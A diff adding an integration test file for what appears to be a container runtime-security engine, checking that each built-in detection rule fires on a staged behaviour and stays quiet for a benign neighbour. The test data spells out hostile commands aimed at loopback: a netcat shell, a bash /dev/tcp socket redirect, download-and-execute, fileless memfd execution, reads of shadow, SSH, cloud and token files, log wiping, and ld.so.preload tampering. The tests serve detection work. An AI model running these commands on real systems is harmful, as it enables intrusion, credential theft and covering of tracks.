@@ -1,0 +1,483 @@
+// Every built-in rule on the real kernel: a real behaviour run in a test
+// container (a cgroup v2 directory) raises the rule's alert, and a benign
+// neighbour doing something close to it, in its own container, does not.
+// Files created under /etc, /var/log, /boot, /usr/local, /home, /run and
+// /dev/shm have unique names and are removed afterwards; no existing
+// system file is written. Network traffic stays on loopback or in network
+// namespaces the tests create.
+import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
+import { createServer, type Server } from 'node:net';
+import { randomBytes } from 'node:crypto';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type { Alert } from '../../src/alert/alert.js';
+import { TestEngine } from '../support/engine.js';
+import { describeKernel, TestCgroupTree, waitFor, type TestCgroup } from '../support/kernel.js';
+import { SyntheticProbe } from '../support/synthetic-probe.js';
+
+const PY = '/usr/bin/python3';
+const tag = randomBytes(4).toString('hex');
+
+describeKernel('built-in rules on the real kernel', () => {
+  let t: TestEngine;
+  let tree: TestCgroupTree;
+  let work: string;
+  let home: string;
+  const alerts: Alert[] = [];
+  /** Paths to remove at the end (files or directories this test created). */
+  const created: string[] = [];
+  const servers: (Server | HttpServer)[] = [];
+  let listenPort = 0;
+  let httpPort = 0;
+  /** Pairs of test containers, one pair per test. */
+  const pairs: { bad: TestCgroup; benign: TestCgroup }[] = [];
+
+  /** A path this test owns under a system directory: removed at the end. */
+  function own(path: string): string {
+    created.push(path);
+    return path;
+  }
+
+  /** /bin/true copied under another name (comm and exe path are what rules read). */
+  function binary(name: string, dir = join(work, 'bin')): string {
+    mkdirSync(dir, { recursive: true });
+    const p = join(dir, name);
+    copyFileSync('/bin/true', p);
+    chmodSync(p, 0o755);
+    return p;
+  }
+
+  async function listen(server: Server, port: number, host = '127.0.0.1'): Promise<number> {
+    await new Promise<void>((resolve, reject) => {
+      server.once('error', reject);
+      server.listen(port, host, () => resolve());
+    });
+    servers.push(server);
+    const a = server.address();
+    return typeof a === 'object' && a ? a.port : 0;
+  }
+
+  beforeAll(async () => {
+    tree = new TestCgroupTree();
+    // Made before the engine starts, so its start-up scan knows their paths:
+    // a cgroup made later is resolved through /proc/PID/cgroup, which a
+    // process that has already exited no longer has.
+    for (let i = 1; i <= 48; i++) pairs.push({ bad: tree.group(`bad-${i}`), benign: tree.group(`benign-${i}`) });
+    t = await TestEngine.start({ sinks: [] });
+    t.engine.onAlert((a) => alerts.push(a));
+    await t.startProbe();
+    work = realpathSync(mkdtempSync(join(tmpdir(), 'vigil-rules-')));
+    home = own(`/home/vigil-test-${tag}`);
+    mkdirSync(join(home, '.ssh'), { recursive: true });
+    mkdirSync(join(home, '.aws'), { recursive: true });
+    listenPort = await listen(createServer((c) => c.destroy()), 0);
+    const payload = readFileSync('/bin/true');
+    const http = createHttpServer((_req, res) => res.end(payload));
+    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
+    servers.push(http);
+    httpPort = (http.address() as { port: number }).port;
+  });
+
+  afterAll(async () => {
+    for (const s of servers) s.close();
+    await t?.stop();
+    await tree?.remove();
+    for (const p of created.reverse()) rmSync(p, { recursive: true, force: true });
+    if (work) rmSync(work, { recursive: true, force: true });
+  });
+
+  /** Runs a command in a cgroup and waits until the engine has seen it exit. */
+  async function run(g: TestCgroup, cmd: string, args: string[]): Promise<void> {
+    const r = await g.run(cmd, args);
+    await waitFor(`the exit of ${cmd} in ${g.path}`, () => t.of(g.id, 'exit').some((e) => e.pid === r.pid));
+  }
+
+  /**
+   * The rule fires for what `bad` does in a fresh container, and not for
+   * what `benign` does in another (run first, so its events are in by the
+   * time the alert is).
+   */
+  function nextPair(): { b: TestCgroup; g: TestCgroup } {
+    const p = pairs.shift();
+    if (!p) throw new Error('more tests than test containers: raise the count in beforeAll');
+    return { b: p.bad, g: p.benign };
+  }
+
+  async function firesOnlyFor(rule: string, technique: string, bad: (g: TestCgroup) => Promise<void>, benign: (g: TestCgroup) => Promise<void>): Promise<Alert> {
+    const { b, g } = nextPair();
+    await benign(g);
+    await bad(b);
+    const a = await waitFor(`'${rule}' for ${b.path}`, () => alerts.find((x) => x.rule === rule && x.workload.cgroupPath === b.path), 10_000);
+    expect(alerts.filter((x) => x.rule === rule && x.workload.cgroupPath === g.path)).toEqual([]);
+    expect(a.source).toBe('rule');
+    expect(a.tags).toContain(technique);
+    return a;
+  }
+
+  const sh = (g: TestCgroup, script: string): Promise<void> => run(g, '/bin/sh', ['-c', script]);
+  const py = (g: TestCgroup, script: string): Promise<void> => run(g, PY, ['-c', script]);
+  const cat = (path: string) => (g: TestCgroup): Promise<void> => run(g, '/bin/cat', [path]);
+
+  // ---- execution ---------------------------------------------------------
+
+  it('Shell spawned in a container', async () => {
+    const a = await firesOnlyFor('Shell spawned in a container', 'T1059.004', (g) => run(g, '/bin/bash', ['-c', 'true']), (g) => run(g, '/bin/true', []));
+    expect(a.output).toMatch(/^Shell spawned in a container \| shell=bash /);
+    expect(a.workload.kind).toBe('cgroup');
+  });
+
+  it('Shell spawned by a server process', async () => {
+    const nginx = join(work, 'srv', 'nginx');
+    const worker = join(work, 'srv', 'worker');
+    mkdirSync(join(work, 'srv'), { recursive: true });
+    for (const p of [nginx, worker]) {
+      copyFileSync('/bin/bash', p);
+      chmodSync(p, 0o755);
+    }
+    // bash under another name forks the shell (two commands, so no exec in place).
+    await firesOnlyFor('Shell spawned by a server process', 'T1505.003', (g) => run(g, nginx, ['-c', '/bin/sh -c true; true']), (g) => run(g, worker, ['-c', '/bin/sh -c true; true']));
+  });
+
+  it('Package manager run in a container', async () => {
+    await firesOnlyFor('Package manager run in a container', 'T1105', (g) => run(g, '/usr/bin/dpkg', ['--version']), (g) => run(g, '/usr/bin/dpkg-query', ['--version']));
+  });
+
+  it('Execution from a temporary directory', async () => {
+    const dropped = binary('dropped');
+    await firesOnlyFor('Execution from a temporary directory', 'T1059', (g) => run(g, dropped, []), (g) => run(g, '/bin/true', []));
+  });
+
+  it('Program run from /dev/shm', async () => {
+    const p = own(`/dev/shm/vigil-test-${tag}`);
+    copyFileSync('/bin/true', p);
+    chmodSync(p, 0o755);
+    await firesOnlyFor('Program run from /dev/shm', 'T1059.004', (g) => run(g, p, []), (g) => run(g, '/bin/true', []));
+  });
+
+  it('Fileless execution from memory', async () => {
+    const memfd = [
+      'import ctypes, os',
+      'libc = ctypes.CDLL(None, use_errno=True)',
+      'fd = libc.memfd_create(b"payload", 0)',
+      'os.write(fd, open("/bin/true", "rb").read())',
+      'pid = os.fork()',
+      'if pid == 0: os.execv("/proc/self/fd/%d" % fd, ["payload"])',
+      'os.waitpid(pid, 0)',
+    ].join('\n');
+    const plain = 'import os\npid = os.fork()\nif pid == 0: os.execv("/bin/true", ["true"])\nos.waitpid(pid, 0)';
+    const a = await firesOnlyFor('Fileless execution from memory', 'T1620', (g) => py(g, memfd), (g) => py(g, plain));
+    expect(a.priority).toBe('critical');
+  });
+
+  it('Downloaded file executed', async () => {
+    const d = join(work, 'dl');
+    mkdirSync(d, { recursive: true });
+    const url = `http://127.0.0.1:${httpPort}/payload`;
+    await firesOnlyFor(
+      'Downloaded file executed', 'T1105',
+      (g) => sh(g, `curl -s -o ${d}/payload ${url} && chmod +x ${d}/payload && ${d}/payload`),
+      (g) => sh(g, `curl -s -o ${d}/data ${url} && chmod +x ${d}/data && /bin/true`),
+    );
+  });
+
+  it('Crypto miner run', async () => {
+    const xmrig = binary('xmrig');
+    const helper = binary('xmrig-helper');
+    await firesOnlyFor('Crypto miner run', 'T1496', (g) => run(g, xmrig, ['-o', 'pool.example:3333']), (g) => run(g, helper, []));
+  });
+
+  it('Mining pool URL on a command line', async () => {
+    await firesOnlyFor('Mining pool URL on a command line', 'T1496', (g) => run(g, '/bin/true', ['-o', 'stratum+tcp://pool.example:3333']), (g) => run(g, '/bin/true', ['-o', 'https://example.com']));
+  });
+
+  it('Base64 payload decoded in a container', async () => {
+    await firesOnlyFor('Base64 payload decoded in a container', 'T1140', (g) => sh(g, 'echo aGk= | base64 -d'), (g) => sh(g, 'echo hi | base64'));
+  });
+
+  it('Data destruction tool run', async () => {
+    writeFileSync(join(work, 'victim'), 'x');
+    writeFileSync(join(work, 'victim2'), 'x');
+    await firesOnlyFor('Data destruction tool run', 'T1485', (g) => run(g, '/usr/bin/shred', ['-u', join(work, 'victim')]), (g) => run(g, '/bin/rm', [join(work, 'victim2')]));
+  });
+
+  it('Account management tool run in a container', async () => {
+    const useradd = binary('useradd');
+    const userinfo = binary('userinfo');
+    await firesOnlyFor('Account management tool run in a container', 'T1136.001', (g) => run(g, useradd, ['mallory']), (g) => run(g, userinfo, []));
+  });
+
+  // ---- credentials -------------------------------------------------------
+
+  it('Shadow or sudoers file read', async () => {
+    await firesOnlyFor('Shadow or sudoers file read', 'T1003.008', cat('/etc/shadow'), cat('/etc/hostname'));
+  });
+
+  it('SSH private key read', async () => {
+    writeFileSync(join(home, '.ssh/id_ed25519'), 'not a real key\n');
+    writeFileSync(join(home, '.ssh/id_ed25519.pub'), 'ssh-ed25519 AAAA test\n');
+    await firesOnlyFor('SSH private key read', 'T1552.004', cat(join(home, '.ssh/id_ed25519')), cat(join(home, '.ssh/id_ed25519.pub')));
+  });
+
+  it('Cloud credentials read', async () => {
+    writeFileSync(join(home, '.aws/credentials'), '[default]\naws_access_key_id = AKIAEXAMPLE\n');
+    writeFileSync(join(home, '.aws/config'), '[default]\nregion = eu-west-1\n');
+    await firesOnlyFor('Cloud credentials read', 'T1552.001', cat(join(home, '.aws/credentials')), cat(join(home, '.aws/config')));
+  });
+
+  it('Service account token read by a shell tool', async () => {
+    const dir = '/run/secrets/kubernetes.io/serviceaccount';
+    // Only what this test creates is removed: the highest directory that did not exist.
+    for (const d of ['/run/secrets', '/run/secrets/kubernetes.io', dir]) {
+      if (!existsSync(d)) {
+        own(d);
+        break;
+      }
+    }
+    mkdirSync(dir, { recursive: true });
+    for (const f of ['token', 'namespace']) {
+      const p = join(dir, f);
+      if (!existsSync(p)) writeFileSync(own(p), f === 'token' ? 'eyJ.test.token' : 'default');
+    }
+    await firesOnlyFor('Service account token read by a shell tool', 'T1528', cat(join(dir, 'token')), cat(join(dir, 'namespace')));
+  });
+
+  it('Search for private keys or passwords', async () => {
+    mkdirSync(join(work, 'src'), { recursive: true });
+    writeFileSync(join(work, 'src/readme'), 'hello\n');
+    await firesOnlyFor('Search for private keys or passwords', 'T1552.001', (g) => run(g, '/bin/grep', ['-r', 'BEGIN RSA PRIVATE', join(work, 'src')]), (g) => run(g, '/bin/grep', ['-r', 'hello', join(work, 'src')]));
+  });
+
+  it('Process memory read through /proc', async () => {
+    const open = (file: string) => `import subprocess\np = subprocess.Popen(["sleep", "5"])\nopen("/proc/%d/${file}" % p.pid, "rb").close()\np.kill(); p.wait()`;
+    await firesOnlyFor('Process memory read through /proc', 'T1003.007', (g) => py(g, open('mem')), (g) => py(g, open('status')));
+  });
+
+  // ---- files ------------------------------------------------------------
+
+  it('Write below /etc', async () => {
+    const f = own(`/etc/vigil-test-${tag}`);
+    await firesOnlyFor('Write below /etc', 'T1098', (g) => sh(g, `echo x > ${f}`), (g) => sh(g, `echo x > ${work}/etc-like`));
+  });
+
+  it('Write below binary directories', async () => {
+    const f = own(`/usr/local/bin/vigil-test-${tag}`);
+    await firesOnlyFor('Write below binary directories', 'T1554', (g) => sh(g, `echo x > ${f}`), (g) => sh(g, `echo x > ${work}/bin-like`));
+  });
+
+  it('Write below /boot', async () => {
+    const f = own(`/boot/vigil-test-${tag}`);
+    await firesOnlyFor('Write below /boot', 'T1542', (g) => sh(g, `echo x > ${f}`), (g) => sh(g, `echo x > ${work}/boot-like`));
+  });
+
+  it('Account or sudoers file modified', async () => {
+    if (!existsSync('/etc/sudoers.d')) own('/etc/sudoers.d');
+    mkdirSync('/etc/sudoers.d', { recursive: true });
+    // sudo skips files in sudoers.d whose names contain a dot.
+    const f = own(`/etc/sudoers.d/vigil-test.${tag}`);
+    await firesOnlyFor('Account or sudoers file modified', 'T1548.003', (g) => sh(g, `echo '# vigil test' > ${f}`), (g) => sh(g, `echo '# vigil test' > ${work}/sudoers`));
+  });
+
+  it('SSH authorized keys modified', async () => {
+    await firesOnlyFor('SSH authorized keys modified', 'T1098.004', (g) => sh(g, `echo 'ssh-ed25519 AAAA x' >> ${home}/.ssh/authorized_keys`), (g) => sh(g, `echo 'host ssh-ed25519 AAAA' >> ${home}/.ssh/known_hosts`));
+  });
+
+  it('Dynamic linker preload configured', async () => {
+    // Opened for writing and nothing written: appended to if it exists, else created empty and removed at once.
+    const touch = (p: string) =>
+      `import os\ntry:\n    os.close(os.open("${p}", os.O_WRONLY | os.O_APPEND))\nexcept FileNotFoundError:\n    os.close(os.open("${p}", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)); os.unlink("${p}")`;
+    const a = await firesOnlyFor('Dynamic linker preload configured', 'T1574.006', (g) => py(g, touch('/etc/ld.so.preload')), (g) => py(g, touch(`${work}/ld.so.preload`)));
+    expect(a.priority).toBe('critical');
+  });
+
+  it('Setuid or setgid bit set', async () => {
+    writeFileSync(join(work, 'suid'), '');
+    writeFileSync(join(work, 'plain'), '');
+    await firesOnlyFor('Setuid or setgid bit set', 'T1548.001', (g) => run(g, '/bin/chmod', ['u+s', join(work, 'suid')]), (g) => run(g, '/bin/chmod', ['755', join(work, 'plain')]));
+  });
+
+  it('Log file cleared', async () => {
+    const log = own(`/var/log/vigil-test-${tag}.log`);
+    const other = own(`/var/log/vigil-test-${tag}-append.log`);
+    writeFileSync(log, 'evidence\n');
+    await firesOnlyFor('Log file cleared', 'T1070.002', (g) => sh(g, `: > ${log}`), (g) => sh(g, `echo more >> ${other}`));
+  });
+
+  it('Log file deleted', async () => {
+    const log = own(`/var/log/vigil-test-${tag}-delete.log`);
+    writeFileSync(log, 'evidence\n');
+    writeFileSync(join(work, 'app.log'), 'x\n');
+    await firesOnlyFor('Log file deleted', 'T1070.002', (g) => run(g, '/bin/rm', [log]), (g) => run(g, '/bin/rm', [join(work, 'app.log')]));
+  });
+
+  it('Shell history deleted or emptied', async () => {
+    mkdirSync(join(work, 'h'), { recursive: true });
+    writeFileSync(join(work, 'h/.bash_history'), 'ls\n');
+    writeFileSync(join(work, 'h/notes'), 'x\n');
+    await firesOnlyFor('Shell history deleted or emptied', 'T1070.003', (g) => run(g, '/bin/rm', [join(work, 'h/.bash_history')]), (g) => run(g, '/bin/rm', [join(work, 'h/notes')]));
+  });
+
+  it('Cron job created or modified', async () => {
+    // cron skips files in cron.d whose names contain a dot.
+    const f = own(`/etc/cron.d/vigil-test.${tag}`);
+    await firesOnlyFor('Cron job created or modified', 'T1053.003', (g) => sh(g, `echo '# vigil test' > ${f}`), (g) => sh(g, `echo '# vigil test' > ${work}/crontab`));
+  });
+
+  it('Systemd unit created or modified', async () => {
+    const f = own(`/etc/systemd/system/vigil-test-${tag}.service`);
+    await firesOnlyFor('Systemd unit created or modified', 'T1543.002', (g) => sh(g, `echo '[Unit]' > ${f}`), (g) => sh(g, `echo '[Unit]' > ${work}/x.service`));
+  });
+
+  // ---- network -----------------------------------------------------------
+
+  it('Network tool run in a container', async () => {
+    const nc = binary('nc');
+    const ncdu = binary('ncdu');
+    await firesOnlyFor('Network tool run in a container', 'T1095', (g) => run(g, nc, ['-z', '127.0.0.1', String(listenPort)]), (g) => run(g, ncdu, []));
+  });
+
+  it('Netcat with command execution', async () => {
+    const nc = binary('nc');
+    await firesOnlyFor('Netcat with command execution', 'T1059', (g) => run(g, nc, ['-e', '/bin/sh', '127.0.0.1', String(listenPort)]), (g) => run(g, nc, ['-z', '127.0.0.1', String(listenPort)]));
+  });
+
+  it('Network scanner run', async () => {
+    const nmap = binary('nmap');
+    const report = binary('nmap-report');
+    await firesOnlyFor('Network scanner run', 'T1046', (g) => run(g, nmap, ['-p-', '127.0.0.1']), (g) => run(g, report, []));
+  });
+
+  it('Standard input or output redirected to a socket', async () => {
+    const a = await firesOnlyFor(
+      'Standard input or output redirected to a socket', 'T1059',
+      (g) => run(g, '/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${listenPort}; exec 0<&3 1>&3 2>&3; true`]),
+      (g) => run(g, '/bin/bash', ['-c', `exec 1>${work}/out.txt; true`]),
+    );
+    expect(a.output).toContain(`->127.0.0.1:${listenPort}`);
+  });
+
+  it('Shell opened a network connection', async () => {
+    await firesOnlyFor(
+      'Shell opened a network connection', 'T1059.004',
+      (g) => run(g, '/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${listenPort}`]),
+      (g) => py(g, `import socket\nsocket.create_connection(("127.0.0.1", ${listenPort})).close()`),
+    );
+  });
+
+  it('Connection to a mining pool port', async () => {
+    let pool = 0;
+    for (const port of [45700, 45560, 14444, 14433, 7778, 5730]) {
+      try {
+        pool = await listen(createServer((c) => c.destroy()), port);
+        break;
+      } catch {
+        // in use: try the next pool port
+      }
+    }
+    expect(pool).toBeGreaterThan(0);
+    const connect = (port: number) => `import socket\nsocket.create_connection(("127.0.0.1", ${port})).close()`;
+    await firesOnlyFor('Connection to a mining pool port', 'T1496', (g) => py(g, connect(pool)), (g) => py(g, connect(listenPort)));
+  });
+
+  it('Cloud metadata service contacted from a container', async () => {
+    // In a network namespace of its own, the metadata address is on the loopback device: nothing leaves the node.
+    const inNetns = (addr: string) => [
+      '-n', '/bin/sh', '-c',
+      `ip link set lo up && ip addr add ${addr}/32 dev lo && ${PY} -c 'import socket; s = socket.socket(); s.settimeout(2); s.connect_ex(("${addr}", 80))'`,
+    ];
+    await firesOnlyFor('Cloud metadata service contacted from a container', 'T1552.005', (g) => run(g, '/usr/bin/unshare', inNetns('169.254.169.254')), (g) => run(g, '/usr/bin/unshare', inNetns('169.254.1.1')));
+  });
+
+  it('Container runtime socket contacted', async () => {
+    const docker = join(work, 'run', 'docker.sock');
+    const app = join(work, 'run', 'app.sock');
+    mkdirSync(join(work, 'run'), { recursive: true });
+    for (const p of [docker, app]) {
+      const s = createServer((c) => c.destroy());
+      await new Promise<void>((r) => s.listen(p, r));
+      servers.push(s);
+    }
+    const connect = (p: string) => `import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect("${p}")\ns.close()`;
+    await firesOnlyFor('Container runtime socket contacted', 'T1611', (g) => py(g, connect(docker)), (g) => py(g, connect(app)));
+  });
+
+  it('Internal port scan', async () => {
+    const scan = `import socket\nfor port in range(21000, 21060):\n    s = socket.socket(); s.settimeout(1); s.connect_ex(("127.0.0.1", port)); s.close()`;
+    const few = `import socket\nfor _ in range(5):\n    socket.create_connection(("127.0.0.1", ${listenPort})).close()`;
+    const a = await firesOnlyFor('Internal port scan', 'T1046', (g) => py(g, scan), (g) => py(g, few));
+    expect(a.fields['threshold.count']).toBe(40);
+  });
+
+  it('Connection burst', async () => {
+    // A closed loopback port answers at once with a reset: a burst without a server.
+    const burst = (k: number) => `import socket\nfor _ in range(${k}):\n    s = socket.socket(); s.connect_ex(("127.0.0.1", 21999)); s.close()`;
+    const a = await firesOnlyFor('Connection burst', 'T1498', (g) => py(g, burst(250)), (g) => py(g, burst(20)));
+    expect(a.fields['threshold.count']).toBe(200);
+  });
+
+  // ---- privilege, kernel, escape -----------------------------------------
+
+  it('Process attached with ptrace', async () => {
+    const attach = [
+      'import ctypes, os, signal, time',
+      'libc = ctypes.CDLL(None, use_errno=True)',
+      'child = os.fork()',
+      'if child == 0:',
+      '    time.sleep(5); os._exit(0)',
+      'libc.ptrace(16, child, 0, 0)', // PTRACE_ATTACH
+      'os.kill(child, signal.SIGKILL); os.waitpid(child, 0)',
+    ].join('\n');
+    const noAttach = 'import os, signal, time\nchild = os.fork()\nif child == 0:\n    time.sleep(5); os._exit(0)\nos.kill(child, signal.SIGKILL); os.waitpid(child, 0)';
+    await firesOnlyFor('Process attached with ptrace', 'T1055.008', (g) => py(g, attach), (g) => py(g, noAttach));
+  });
+
+  it('Anti-debugging with PTRACE_TRACEME', async () => {
+    await firesOnlyFor('Anti-debugging with PTRACE_TRACEME', 'T1622', (g) => py(g, 'import ctypes\nctypes.CDLL(None).ptrace(0, 0, 0, 0)'), (g) => py(g, 'import ctypes\nctypes.CDLL(None).getpid()'));
+  });
+
+  it('Kernel module loaded (a synthetic event over the real gRPC stream: this kernel has no loadable modules)', async () => {
+    // No init_module/finit_module tracepoints and no /proc/modules here, so
+    // the probe cannot see a module load: a second, synthetic probe session
+    // sends the event the probe would.
+    const { b, g } = nextPair();
+    const probe = SyntheticProbe.connect(t.config.engine.listen, { nodeName: 'test-node' });
+    try {
+      probe.sendBatch([
+        { pid: 4_000_001, ppid: 1, comm: 'modprobe', cgroupId: Number(g.id), open: { path: '/lib/modules/x/modules.dep', flags: 0, mode: 0, result: 3 } },
+        { pid: 4_000_002, ppid: 1, comm: 'insmod', cgroupId: Number(b.id), moduleLoad: { call: 'finit_module', path: '/tmp/rootkit.ko', result: 0 } },
+      ]);
+      const a = await waitFor('the module alert', () => alerts.find((x) => x.rule === 'Kernel module loaded' && x.workload.cgroupPath === b.path));
+      expect(a.tags).toContain('T1547.006');
+      expect(a.output).toContain('module=/tmp/rootkit.ko');
+      expect(alerts.filter((x) => x.rule === 'Kernel module loaded' && x.workload.cgroupPath === g.path)).toEqual([]);
+    } finally {
+      await probe.close();
+    }
+  });
+
+  it('Privileges raised to root with setuid', async () => {
+    // Drop the effective uid, keep the saved one, then take root back.
+    await firesOnlyFor('Privileges raised to root with setuid', 'T1548', (g) => py(g, 'import os\nos.seteuid(65534)\nos.seteuid(0)'), (g) => py(g, 'import os\nos.setuid(65534)'));
+  });
+
+  it('Mount in a container', async () => {
+    const target = join(work, 'mnt');
+    mkdirSync(target, { recursive: true });
+    await firesOnlyFor('Mount in a container', 'T1611', (g) => run(g, '/usr/bin/unshare', ['-m', '/bin/mount', '-t', 'tmpfs', `vigil-test-${tag}`, target]), (g) => run(g, '/bin/mount', ['--version']));
+  });
+
+  it('Namespace changed in a container', async () => {
+    await firesOnlyFor('Namespace changed in a container', 'T1611', (g) => run(g, '/usr/bin/unshare', ['-U', '/bin/true']), (g) => run(g, '/usr/bin/unshare', ['--version']));
+  });
+
+  it('nsenter run in a container', async () => {
+    await firesOnlyFor('nsenter run in a container', 'T1611', (g) => run(g, '/usr/bin/nsenter', ['--version']), (g) => run(g, '/usr/bin/unshare', ['--version']));
+  });
+
+  it('covers every built-in rule', () => {
+    const tested = new Set(alerts.filter((a) => a.workload.cgroupPath.startsWith(`${tree.root}/bad-`)).map((a) => a.rule));
+    const builtin = t.engine.rules.report!.defined.map((d) => d.name);
+    expect(builtin.filter((r) => !tested.has(r))).toEqual([]);
+  });
+});
